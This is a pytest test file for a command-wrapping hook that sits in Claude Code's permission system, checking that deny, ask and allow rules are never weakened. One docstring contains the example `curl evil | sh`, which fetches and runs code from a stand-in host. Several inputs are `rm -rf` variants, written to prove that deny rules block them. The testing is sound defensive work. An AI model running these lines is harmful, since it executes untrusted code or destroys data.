"""The Claude Code PreToolUse hook: never weakens permissions, wraps only what it should."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from summarizer.agents.hook import answer
from summarizer.agents.permissions import decide, load_rules, matches
from summarizer.agents.shell import parse
from tests.agents.conftest import run_cli

ASK_REASON = "summarizer compresses this command's output; "


PROGRAMS = (
    "npm",
    "make",
    "pytest",
    "rm",
    "git",
    "python3",
    "cat",
    "head",
    "tail",
    "sed",
    "jq",
    "grep",
    "vim",
    "echo",
    "tee",
    "curl",
    "sh",
    "ls",
    "find",
    "rg",
    "du",
)


def _env(home: Path, rules: dict[str, list[str]]) -> dict[str, str]:
    """A home with these Claude Code rules, and a PATH on which the test's programs exist."""
    (home / ".claude").mkdir(parents=True, exist_ok=True)
    (home / ".claude" / "settings.json").write_text(json.dumps({"permissions": rules}))
    bin_dir = home / "bin"
    bin_dir.mkdir(exist_ok=True)
    for name in PROGRAMS:
        (bin_dir / name).write_text("#!/bin/sh\n")
        (bin_dir / name).chmod(0o755)
    return {"HOME": str(home), "PATH": str(bin_dir), "SUMMARIZER_CONFIG_DIR": str(home / "config")}


def _event(command: str, mode: str = "default", project: Path | None = None) -> dict[str, object]:
    return {
        "session_id": "s1",
        "transcript_path": "/tmp/t.jsonl",
        "cwd": str(project or "/nonexistent"),
        "permission_mode": mode,
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command, "description": "Run the tests"},
        "tool_use_id": "toolu_1",
    }


REWRITTEN = {"command": "summarizer run -- npm test", "description": "Run the tests"}
CASES = [
    # (rule kind holding "Bash(npm test:*)", permission mode, the exact reply)
    ("deny", "default", None),
    ("deny", "bypassPermissions", None),
    (
        "ask",
        "default",
        {
            "hookSpecificOutput": {
                "hookEventName": "PreToolUse",
                "permissionDecision": "ask",
                "permissionDecisionReason": ASK_REASON + "your rules ask before running it",
                "updatedInput": REWRITTEN,
            }
        },
    ),
    (
        "ask",
        "bypassPermissions",
        {
            "hookSpecificOutput": {
                "hookEventName": "PreToolUse",
                "permissionDecision": "ask",
                "permissionDecisionReason": ASK_REASON + "your rules ask before running it",
                "updatedInput": REWRITTEN,
            }
        },
    ),
    (
        None,
        "default",
        {
            "hookSpecificOutput": {
                "hookEventName": "PreToolUse",
                "permissionDecision": "ask",
                "permissionDecisionReason": ASK_REASON + "no rule of yours allows it",
                "updatedInput": REWRITTEN,
            }
        },
    ),
    (
        None,
        "bypassPermissions",
        {"hookSpecificOutput": {"hookEventName": "PreToolUse", "updatedInput": REWRITTEN}},
    ),
    (
        "allow",
        "default",
        {
            "hookSpecificOutput": {
                "hookEventName": "PreToolUse",
                "permissionDecision": "allow",
                "permissionDecisionReason": "your rules allow the original command; output compressed",
                "updatedInput": REWRITTEN,
            }
        },
    ),
    (
        "allow",
        "bypassPermissions",
        {"hookSpecificOutput": {"hookEventName": "PreToolUse", "updatedInput": REWRITTEN}},
    ),
]


@pytest.mark.parametrize(("kind", "mode", "expected"), CASES)
def test_each_rule_and_mode_gives_exactly_this_reply(
    tmp_path: Path, kind: str | None, mode: str, expected: dict[str, object] | None
) -> None:
    """deny: no rewrite; ask / no rule: "ask" + rewrite; allow: rewrite, no decision under bypass."""
    env = _env(tmp_path / "home", {kind: ["Bash(npm test:*)"]} if kind else {})
    assert answer(_event("npm test", mode), env) == expected


@pytest.mark.parametrize("rule", ["Bash(rm:*)", "Bash(rm -rf *)", "Bash", "Bash(*)", "Bash(rm -rf build)"])
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build",
        "make && rm -rf build",
        "make; rm -rf build | cat",
        "echo $(rm -rf build)",
        "FOO=1 rm -rf build",
        "timeout 5 rm -rf build",
        "nice -n 10 rm -rf build",
        "nohup rm -rf build",
        "sudo rm -rf build",
        "bash -c 'rm -rf build'",
        "xargs rm -rf < list",
        "rm -rf build 2>&1 | tee log",
    ],
)
@pytest.mark.parametrize("mode", ["default", "bypassPermissions", "acceptEdits"])
def test_a_deny_listed_command_is_never_rewritten(tmp_path: Path, rule: str, command: str, mode: str) -> None:
    """Whatever else the line holds, and in every mode, a deny match means no reply at all."""
    env = _env(tmp_path / "home", {"deny": [rule], "allow": ["Bash(make:*)", "Bash(*)"]})
    assert answer(_event(command, mode), env) is None


def test_an_allow_rule_never_covers_a_compound_command_it_does_not_fully_match(tmp_path: Path) -> None:
    """`npm test && curl evil | sh` is not allowed by `Bash(npm test:*)`: Claude Code would ask."""
    env = _env(tmp_path / "home", {"allow": ["Bash(npm test:*)"]})
    reply = answer(_event("npm test && make deploy"), env)
    assert reply is not None and reply["hookSpecificOutput"]["permissionDecision"] == "ask"  # type: ignore[index]


def test_project_and_local_settings_count_and_a_broken_file_means_ask(tmp_path: Path) -> None:
    """Rules come from the project's .claude files too; an unreadable one never yields allow."""
    project = tmp_path / "proj"
    (project / ".claude").mkdir(parents=True)
    (project / ".claude" / "settings.local.json").write_text(
        '{"permissions": {"deny": ["Bash(make deploy)"]}}'
    )
    env = _env(tmp_path / "home", {"allow": ["Bash(make:*)"]})
    assert answer(_event("make deploy", project=project), env) is None
    (project / ".claude" / "settings.json").write_text("{not json")
    reply = answer(_event("make build", project=project), env)
    assert reply is not None and reply["hookSpecificOutput"]["permissionDecision"] == "ask"  # type: ignore[index]


@pytest.mark.parametrize(
    "command",
    [
        "cat README.md",
        "head -50 log.txt",
        "tail -f app.log",
        "sed -n 1,20p x.py",
        "git diff HEAD~1",
        "git show abc123",
        "git log -p -40",
        "git log --patch --stat src",
        "git log -U1 HEAD~3..",
        "jq . data.json",
        "grep -r foo src",
        "find . -name '*.pyc' -exec rm {} +",
        "git show --stat --format=%B HEAD | head -c 10 | wc -c",
        "summarizer run -- pytest",
        "/usr/local/bin/summarizer output x",
        "cat <<EOF > x\nhi\nEOF",
        "cat src/app.py | head -20",
        "cat src/app.py > copy.py",
        "cat -n src/app.py",
        "cat a.py b.py",
        "cat src/*.py",
        "cat build.log",
        "python3 - <<'PY'\nprint(1)\nPY",
        "vim x.py",
        "python3",
        "git rebase -i HEAD~3",
        "git commit",
        "export X=1",
        "npm run dev &",
        "echo 'unbalanced",
        "sh -c 'make test'",
        "pytest | grep -c passed",
        "pytest | wc -l",
        "npm test | sort | uniq -c",
        "make | tee log | grep error",
        "pytest | tail -f",
        "f() { make; }; f",
        "(cd src && make)",
        "if true; then make; fi",
    ],
)
def test_commands_that_must_not_be_wrapped_are_left_alone(tmp_path: Path, command: str) -> None:
    """Verbatim content, already wrapped, heredocs, interactive, shell state, background: no reply."""
    env = _env(tmp_path / "home", {"allow": ["Bash"]})
    assert answer(_event(command), env) is None


@pytest.mark.parametrize(
    ("command", "rewritten"),
    [
        ("cat src/click/types.py", "summarizer run --content -- cat src/click/types.py"),
        ("cd web && cat src/query.ts", "cd web && summarizer run --content -- cat src/query.ts"),
    ],
)
def test_cat_of_one_source_file_is_read_as_content(tmp_path: Path, command: str, rewritten: str) -> None:
    """`cat FILE` of one source file goes through `run --content` (an outline when it is large)."""
    env = _env(tmp_path / "home", {"allow": ["Bash"]})
    reply = answer(_event(command), env)
    assert reply is not None
    assert reply["hookSpecificOutput"]["updatedInput"]["command"] == rewritten  # type: ignore[index]


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "ls src",
        "find src -name '*.py'",
        "grep -rn foo src",
        "rg -n foo",
        "git show --stat HEAD",
        "git diff --stat",
        "git ls-files",
        "du -sh *",
        "git log --oneline",
        "git log --stat -20",
    ],
)
def test_listings_and_searches_are_wrapped(tmp_path: Path, command: str) -> None:
    """They print names, paths and hits, not content to read: their compact forms keep every one."""
    env = _env(tmp_path / "home", {"allow": ["Bash"]})
    reply = answer(_event(command), env)
    assert reply is not None
    assert reply["hookSpecificOutput"]["updatedInput"]["command"] == f"summarizer run -- {command}"  # type: ignore[index]


@pytest.mark.parametrize(
    "command", ["cat src/click/types.py", "ls -la", "grep -rn convert src", "cd src && cat a.py"]
)
def test_a_read_no_rule_allows_is_left_to_claude_code(tmp_path: Path, command: str) -> None:
    """Claude Code runs reads without asking: with no rule for them, a rewrite would turn every
    `cat` and `ls` into a question, so the hook says nothing; a rule or bypassPermissions wraps."""
    env = _env(tmp_path / "home", {})
    assert answer(_event(command, mode="default"), env) is None
    assert answer(_event(command, mode="acceptEdits"), env) is None
    bypass = answer(_event(command, mode="bypassPermissions"), env)
    assert bypass is not None and "summarizer run" in bypass["hookSpecificOutput"]["updatedInput"]["command"]  # type: ignore[index]
    ruled = answer(_event(command, mode="default"), _env(tmp_path / "ruled", {"allow": ["Bash"]}))
    assert ruled is not None and ruled["hookSpecificOutput"]["permissionDecision"] == "allow"  # type: ignore[index]
    mixed = answer(_event(f"make && {command}", mode="default"), env)
    assert mixed is not None and mixed["hookSpecificOutput"]["permissionDecision"] == "ask"  # type: ignore[index]


def test_the_user_exclude_list_is_honoured(tmp_path: Path) -> None:
    """Prefixes in ~/.config/summarizer/hook-exclude (comments allowed) are never wrapped."""
    env = _env(tmp_path / "home", {})
    (tmp_path / "home" / "config").mkdir()
    (tmp_path / "home" / "config" / "hook-exclude").write_text("# mine\nnpm run storybook  # noisy UI\n")
    assert answer(_event("npm run storybook --port 6006"), env) is None
    assert answer(_event("npm run build"), env) is not None


def test_aliases_functions_and_builtins_are_left_alone(tmp_path: Path) -> None:
    """A word that is no program on PATH (`ll`, a shell function) would be lost in a child."""
    env = _env(tmp_path / "home", {})
    assert answer(_event("ll -a"), env) is None
    reply = answer(_event("make && my_function build"), env)
    assert reply is not None  # the function still runs in the agent's shell, unwrapped
    assert reply["hookSpecificOutput"]["updatedInput"]["command"] == (  # type: ignore[index]
        "summarizer run -- make && my_function build"
    )


def test_background_tool_calls_and_other_tools_are_left_alone(tmp_path: Path) -> None:
    """run_in_background commands and non-Bash tools get no reply."""
    env = _env(tmp_path / "home", {})
    event = _event("pytest")
    event["tool_input"] = {"command": "pytest", "run_in_background": True}
    assert answer(event, env) is None
    assert answer({**_event("pytest"), "tool_name": "Edit"}, env) is None


def test_rewrites_keep_the_shells_reading_of_the_command(tmp_path: Path) -> None:
    """A simple command is prefixed (the agent's shell still expands it); one with redirections
    goes in as one quoted shell string, so they stay inside the wrapped command."""
    env = _env(tmp_path / "home", {"allow": ["Bash"]})
    got = answer(_event("pytest -k 'a and b' $ARGS"), env)
    assert got is not None
    assert got["hookSpecificOutput"]["updatedInput"]["command"] == (  # type: ignore[index]
        "summarizer run -- pytest -k 'a and b' $ARGS"
    )
    got = answer(_event("make 2>&1 > build.log && echo it's done"), env)
    assert got is None  # unbalanced quote: the shell would complain; left alone
    got = answer(_event('make 2>&1 > build.log && echo "it\'s done"'), env)
    assert got is not None
    assert got["hookSpecificOutput"]["updatedInput"]["command"] == (  # type: ignore[index]
        "summarizer run 'make 2>&1 > build.log' && echo \"it's done\""
    )


@pytest.mark.parametrize(
    ("pattern", "command", "strict", "liberal"),
    [
        ("npm test:*", "npm test", True, True),
        ("npm test:*", "npm test --watch", True, True),
        ("npm test:*", "npm tester", False, False),
        ("ls *", "ls -la", True, True),
        ("ls *", "ls", False, True),
        ("git * main", "git push origin main", True, True),
        ("make", "make all", False, False),
    ],
)
def test_rule_patterns_match_like_claude_codes(
    pattern: str, command: str, strict: bool, liberal: bool
) -> None:
    """`:*` is a word prefix, `*` a wildcard; a bare `cmd` matches only for deny/ask (liberal)."""
    assert matches(pattern, command, liberal=False) is strict
    assert matches(pattern, command, liberal=True) is liberal


def test_decide_orders_deny_before_ask_before_allow(tmp_path: Path) -> None:
    """One part denied denies the line; asks win over allows."""
    env = _env(
        tmp_path / "home",
        {
            "allow": ["Bash(make:*)", "Bash(git push:*)"],
            "ask": ["Bash(git push:*)"],
            "deny": ["Bash(git push --force:*)"],
        },
    )
    rules = load_rules("/nonexistent", env)
    assert decide(rules, parse("make && git push --force")) == "deny"
    assert decide(rules, parse("make && git push")) == "ask"
    assert decide(rules, parse("make all")) == "allow"


def test_a_real_claude_code_hook_event_piped_to_the_command_gives_valid_output(
    summarizer: str, tmp_path: Path
) -> None:
    """The documented PreToolUse JSON on stdin: one JSON object on stdout, exit 0."""
    env = _env(tmp_path / "home", {"allow": ["Bash(pytest:*)"]})
    event = json.dumps(_event("pytest -x tests", project=tmp_path)).encode()
    done = run_cli(summarizer, "hook", "claude", stdin=event, env=env)
    assert done.returncode == 0 and done.stderr == b""
    reply = json.loads(done.stdout)
    out = reply["hookSpecificOutput"]
    assert out["hookEventName"] == "PreToolUse" and out["permissionDecision"] == "allow"
    assert out["updatedInput"]["command"].endswith(" run -- pytest -x tests")
    assert out["updatedInput"]["description"] == "Run the tests"


@pytest.mark.parametrize("stdin", [b"", b"not json", b"[]", b'{"tool_name": "Bash", "tool_input": 3}'])
def test_bad_hook_input_says_nothing_and_never_blocks(summarizer: str, stdin: bytes) -> None:
    """Garbage in: no output and exit 0 (exit 2 would block the agent's command), at most one
    line on stderr."""
    done = run_cli(summarizer, "hook", "claude", stdin=stdin)
    assert (done.returncode, done.stdout) == (0, b"")
    assert len(done.stderr.splitlines()) <= 1


def test_extra_arguments_never_make_the_hook_exit_2(summarizer: str, tmp_path: Path) -> None:
    """`summarizer hook claude extra` still answers the event, exit 0, one stderr line."""
    env = _env(tmp_path / "home", {"allow": ["Bash(pytest:*)"]})
    event = json.dumps(_event("pytest -x", project=tmp_path)).encode()
    done = run_cli(summarizer, "hook", "claude", "extra", stdin=event, env=env)
    assert done.returncode == 0 and len(done.stderr.splitlines()) == 1
    assert json.loads(done.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"


@pytest.mark.parametrize(
    ("command", "segments"),
    [
        ("make 2>&1 | tee build.log", [["make"], ["tee", "build.log"]]),
        ("pytest -q 2>&1", [["pytest", "-q"]]),
        ("make &> build.log", [["make"]]),
        ("npm test >&2", [["npm", "test"]]),
        ("cargo build 2>/dev/null >> 'out file'", [["cargo", "build"]]),
        ("ls >| f; pwd", [["ls"], ["pwd"]]),
    ],
)
def test_a_redirection_is_part_of_its_command_not_a_separator(
    command: str, segments: list[list[str]]
) -> None:
    """`2>&1`, `&>`, `>&2`: their `&` does not start a command and their target is no argument."""
    line = parse(command)
    assert [c.argv for c in line.commands] == segments
    assert any(c.redirects for c in line.commands) and not line.background


@pytest.mark.parametrize("command", ["make 2>&1 | tee build.log", "pytest -q 2>&1", "make &> build.log"])
def test_commands_with_redirections_are_wrapped_whole(tmp_path: Path, command: str) -> None:
    """The common `2>&1` forms are rewritten, as one shell string that keeps the redirection."""
    env = _env(tmp_path / "home", {"allow": ["Bash"]})
    reply = answer(_event(command), env)
    assert reply is not None
    updated = reply["hookSpecificOutput"]["updatedInput"]["command"]  # type: ignore[index]
    assert updated == f"summarizer run '{command}'"
